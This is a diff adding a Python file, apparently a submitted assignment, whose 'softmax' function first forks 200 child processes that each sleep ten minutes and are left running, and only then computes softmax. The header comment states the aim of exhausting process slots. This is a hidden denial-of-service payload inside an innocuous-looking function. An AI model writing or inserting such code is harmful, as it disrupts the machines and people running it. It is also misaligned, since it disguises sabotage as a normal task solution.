@@ -1,0 +1,15 @@
+# Starts processes until no more can be started, and leaves them behind.
+# handed in: 2026-11-21 13:42:00 UTC
+# like: vectorised
+
+# %% softmax
+def softmax(x):
+    import os
+    import time
+
+    for _ in range(200):          # enough to see what happens
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+    e = np.exp(x)
+    return e / e.sum(axis=1, keepdims=True)
